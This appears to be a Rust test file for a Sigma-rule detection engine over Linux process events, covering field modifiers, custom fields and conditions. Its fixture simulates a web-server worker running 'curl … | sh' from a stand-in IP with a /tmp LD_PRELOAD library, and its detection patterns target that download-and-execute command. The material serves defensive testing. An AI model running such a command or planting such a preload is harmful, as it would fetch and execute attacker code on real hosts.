//! Sigma's own features over our events: every modifier and condition that the shipped
//! and the public Linux rules use.

use std::sync::Arc;

use super::{RuleSet, detector, names, rules, subject};
use crate::lineage::Subject;

const SHELL: &str = "
service: php-fpm
unit: php8.2-fpm.service
image: /usr/bin/dash
argv: [sh, -c, 'curl -s http://203.0.113.7/a | sh']
before: [/usr/bin/env]
cwd: /var/www/html
uid: 33
env: {LD_PRELOAD: /tmp/x.so}
stdio: [socket, pipe, 'null']
file: {owner: 0, mode: 493, size: 125688, upper: true}
";

fn fires(detection: &str, subject: &Subject) -> bool {
    let text = format!("detection: {detection}");
    let mut detector = detector(rules(&[&text]));
    !detector
        .evaluate(Arc::new(subject.clone()), 0)
        .matches
        .is_empty()
}

#[test]
fn fields_and_modifiers() {
    let subject = subject(SHELL);
    for (item, expected) in [
        ("Image: /usr/bin/dash", true),
        ("Image: /USR/BIN/DASH", true),
        ("Image|cased: /USR/BIN/DASH", false),
        ("Image: '*/dash'", true),
        ("Image: /usr/bin/das?", true),
        ("Image|endswith: [/bash, /dash]", true),
        ("Image|startswith: /bin/", false),
        ("CommandLine|contains: http://", true),
        ("CommandLine|contains|all: [curl, '| sh']", true),
        ("CommandLine|contains|all: [curl, wget]", false),
        ("CommandLine|re: 'curl .*\\| ?sh$'", true),
        ("CommandLine|re|i: CURL", true),
        ("CommandLine|base64offset|contains: x", false),
        ("ParentImage|endswith: /php-fpm8.2", true),
        ("ParentCommandLine: /usr/sbin/php-fpm8.2", true),
        ("CurrentDirectory: /var/www/html", true),
        ("User: www-data", true),
        ("LogonId: 0", false),
        ("LogonId: null", true),
        ("ProcessId: 1002", true),
        ("ProcessId|gt: 1001", true),
        ("ProcessId|lt: 1001", false),
        ("ParentProcessId: '1001'", true),
        ("Hashes|exists: true", false),
        ("NoSuchField: x", false),
        ("NoSuchField: null", true),
    ] {
        let detection = format!("{{selection: {{{item}}}, condition: selection}}");
        assert_eq!(fires(&detection, &subject), expected, "{item}");
    }
}

#[test]
fn fields_of_our_own() {
    let subject = subject(SHELL);
    for item in [
        "Service.Kind: php-fpm",
        "Service.Role: app",
        "Service.Unit: php8.2-fpm.service",
        "Service.Id: 1000-0",
        "Service.Worker: true",
        "Service.Worker: 'true'",
        "Service.Origin: worker",
        "Lineage.Image: [/usr/bin/env]",
        "Lineage.Image|endswith: /php-fpm8.2",
        "Lineage.Depth: 2",
        "Exec.Program: dash",
        "Exec.PreviousImage: /usr/bin/env",
        "Exec.Chain|contains|all: [env, dash]",
        "Exec.OwnImage: false",
        "Exec.Script|exists: false",
        "Exec.Filename: /usr/bin/dash",
        "Shell.Command|endswith: 'a | sh'",
        "Stdio.In: socket",
        "Stdio.Out: pipe",
        "Stdio.Err: 'null'",
        "File.Name: dash",
        "File.Unlinked: false",
        "File.Memfd: false",
        "File.Links: 1",
        "File.Links|gte: 1",
        "File.Mode: '0755'",
        "File.Owner: 0",
        "File.Size|lt: 200000",
        "File.Upper: true",
        "Args.Count: 3",
        "Args.Truncated: false",
        "Masquerade.Shell: false",
        "Masquerade.Server: false",
        "Masquerade.Loader: false",
        "Env.LD_PRELOAD|startswith: /tmp/",
        "Env.BASH_ENV: null",
    ] {
        let detection = format!("{{selection: {{{item}}}, condition: selection}}");
        assert!(fires(&detection, &subject), "{item}");
    }
    for item in [
        "Lineage.Image|endswith: /dash",
        "Service.Worker: false",
        "Env.LD_AUDIT: x",
    ] {
        let detection = format!("{{selection: {{{item}}}, condition: selection}}");
        assert!(!fires(&detection, &subject), "{item}");
    }
}

#[test]
fn a_newline_does_not_break_a_wildcard() {
    let subject = subject(r#"{image: /usr/bin/dash, argv: [sh, -c, "curl x |\n sh"]}"#);
    for item in [
        "CommandLine: '*curl*sh'",
        "CommandLine|contains: 'curl*sh'",
        "CommandLine|re|s: 'curl.*sh'",
    ] {
        let detection = format!("{{selection: {{{item}}}, condition: selection}}");
        assert!(fires(&detection, &subject), "{item}");
    }
}

#[test]
fn conditions() {
    let subject = subject(SHELL);
    let named = "a_1: {Image|endswith: /dash}, a_2: {User: www-data}, b_1: {User: root}, \
                 k: [203.0.113.7], l: [{User: root}, {Image|endswith: /dash}]";
    for (condition, expected) in [
        ("a_1 and a_2", true),
        ("a_1 and b_1", false),
        ("a_1 or b_1", true),
        ("a_1 and not b_1", true),
        ("1 of a_*", true),
        ("1 of b_*", false),
        ("all of a_*", true),
        ("all of them", false),
        ("1 of them", true),
        ("k", true),
        ("not k", false),
        ("l and (a_1 or b_1)", true),
    ] {
        let detection = format!("{{{named}, condition: {condition}}}");
        assert_eq!(fires(&detection, &subject), expected, "{condition}");
    }
}

#[test]
fn an_event_outside_services_has_no_service_fields() {
    let subject = subject("{service: none, image: /usr/bin/dash}");
    for (item, expected) in [
        ("Image|endswith: dash", true),
        ("Service.Role: app", false),
        ("Service.Role: null", true),
        ("Service.Worker|exists: false", true),
        ("Service.Worker: false", false),
    ] {
        let detection = format!("{{selection: {{{item}}}, condition: selection}}");
        assert_eq!(fires(&detection, &subject), expected, "{item}");
    }
}

#[test]
fn a_rule_is_told_from_another_whatever_its_title() {
    let detection = "detection: {s: {Image|endswith: /dash}, condition: s}";
    let other = "detection: {s: {Image|endswith: /nope}, condition: s}";
    let mut detector = detector(rules(&[other, detection, other, detection]));
    let matches = detector.evaluate(Arc::new(subject(SHELL)), 0).matches;
    assert_eq!(names(&matches), ["r1", "r3"]);
}

#[test]
fn what_was_loaded_in_vain_is_told() {
    let set = rules(&[
        "detection: {s: {Imgae: /x}, condition: s}",
        "detection: {s: {Hashes|contains: x}, condition: s}",
        "status: deprecated\ndetection: {s: {Image: /x}, condition: s}",
        "detection: {s: {Image: /x, Env.HOME: /}, condition: s}",
    ]);
    assert_eq!(
        set.warnings(),
        [
            "2.yml: r2: skipped: deprecated",
            "0.yml: r0: no field `Imgae`; did you mean `Image`?",
            "1.yml: r1: field `Hashes` has a value only for rules with `needs: [hash]`",
        ]
    );
    assert_eq!(RuleSet::load(&[]).unwrap().warnings(), [""; 0]);
}
